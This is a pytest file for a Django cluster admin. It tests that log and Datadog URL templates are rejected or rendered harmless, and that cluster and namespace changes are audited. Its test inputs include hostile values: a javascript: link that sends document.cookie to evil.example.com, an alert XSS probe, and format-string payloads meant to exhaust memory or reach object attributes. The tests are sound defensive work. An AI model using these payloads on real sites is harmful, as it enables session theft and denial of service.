"""Clusters in the admin: what an SRE may save, and what the pages make of it."""

from __future__ import annotations

import pytest

from apps.audit.models import AuditEvent
from apps.clusters.models import Cluster, Pod, TeamNamespace

pytestmark = pytest.mark.django_db


def _cluster_form(cluster: Cluster, **changes) -> dict:
    data = {
        "name": cluster.name, "stage": cluster.stage, "enabled": "on", "connection": cluster.connection,
        "kubeconfig_path": cluster.kubeconfig_path, "context": cluster.context, "eks_cluster_name": "",
        "eks_region": "", "logs_url_template": "", "datadog_url_template": "",
    }  # fmt: skip
    return {**data, **changes}


@pytest.mark.parametrize(
    "field, template",
    [
        ("logs_url_template", "javascript:fetch('//evil.example.com/'+document.cookie)//{pod}"),
        ("datadog_url_template", "https://app.datadoghq.com/{pod:>99999999}"),
        ("datadog_url_template", "https://app.datadoghq.com/{pod.__class__}"),
    ],
)
def test_the_admin_refuses_a_template_that_breaks_the_rule(client_for, sre, cluster, field, template):
    url = f"/admin/clusters/cluster/{cluster.pk}/change/"
    response = client_for(sre).post(url, _cluster_form(cluster, **{field: template}))
    assert response.status_code == 200  # the form again, with the error
    assert "errorlist" in response.content.decode()
    cluster.refresh_from_db()
    assert getattr(cluster, field) == ""


def test_the_admin_saves_a_good_template(client_for, sre, cluster):
    template = "https://grafana.example.com/explore?left={query}"
    url = f"/admin/clusters/cluster/{cluster.pk}/change/"
    response = client_for(sre).post(url, _cluster_form(cluster, logs_url_template=template))
    assert response.status_code == 302, response.content.decode()[:3000]
    cluster.refresh_from_db()
    assert cluster.logs_url_template == template


@pytest.mark.parametrize(
    "template",
    ["javascript:alert(document.domain)//{pod}", "https://grafana.example.com/{pod:>3000000}"],
)
def test_a_row_saved_before_the_rule_gives_no_link(client_for, alice, synced, template):
    # Saved without the admin's checks, as rows from before the rule were.
    Cluster.objects.filter(pk=synced.pk).update(logs_url_template=template, datadog_url_template=template)
    pod = Pod.objects.filter(namespace="payments", name__startswith="checkout-api").first()
    response = client_for(alice).get(f"/teams/payments/pods/demo/payments/{pod.name}/")
    html = response.content.decode()
    assert response.status_code == 200
    assert "javascript:" not in html and len(html) < 500_000
    assert "Logs in Grafana/Loki" not in html and ">Datadog</a>" not in html


# Changes of who may do what are audit events, shown with the team's latest actions ------


def test_a_clusters_stage_change_is_audited_and_shown_on_its_teams_pages(client_for, sre, alice, synced):
    url = f"/admin/clusters/cluster/{synced.pk}/change/"
    response = client_for(sre).post(url, _cluster_form(synced, stage="production"))
    assert response.status_code == 302
    event = AuditEvent.objects.get(action="config.cluster", outcome="changed")
    assert (event.outcome, event.target, event.team) == ("changed", "demo", None)
    assert event.parameters["changes"] == {"stage": ["staging", "production"]}
    html = client_for(alice).get("/teams/payments/").content.decode()
    assert "config.cluster" in html and "stage: staging → production" in html


def test_assigning_and_unassigning_a_namespace_is_audited_for_the_team(client_for, sre, cluster, teams):
    client = client_for(sre)
    response = client.post(
        "/admin/clusters/teamnamespace/add/",
        {"team": teams["search"].pk, "cluster": cluster.pk, "namespace": "ledger"},
    )
    assert response.status_code == 302
    assignment = TeamNamespace.objects.get()
    client.post(f"/admin/clusters/teamnamespace/{assignment.pk}/delete/", {"post": "yes"})
    created, deleted = AuditEvent.objects.filter(action="config.teamnamespace").order_by("id")
    assert (created.outcome, created.target, created.team) == ("created", "demo/ledger", teams["search"])
    assert (deleted.outcome, deleted.target, deleted.team) == ("deleted", "demo/ledger", teams["search"])


def test_add_cluster_records_what_it_changed(tmp_path):
    from django.core.management import call_command

    config = tmp_path / "kubeconfig"
    config.write_text("apiVersion: v1\nkind: Config\n")
    call_command("add_cluster", "edge", "--kubeconfig", str(config), "--stage", "staging")
    call_command("add_cluster", "edge", "--kubeconfig", str(config), "--stage", "production")
    call_command("add_cluster", "edge", "--kubeconfig", str(config), "--stage", "production")
    events = list(AuditEvent.objects.filter(action="config.cluster").order_by("id"))
    assert [(e.outcome, e.actor_name) for e in events] == [("created", "system"), ("changed", "system")]
    assert events[1].parameters["changes"] == {"stage": ["staging", "production"]}
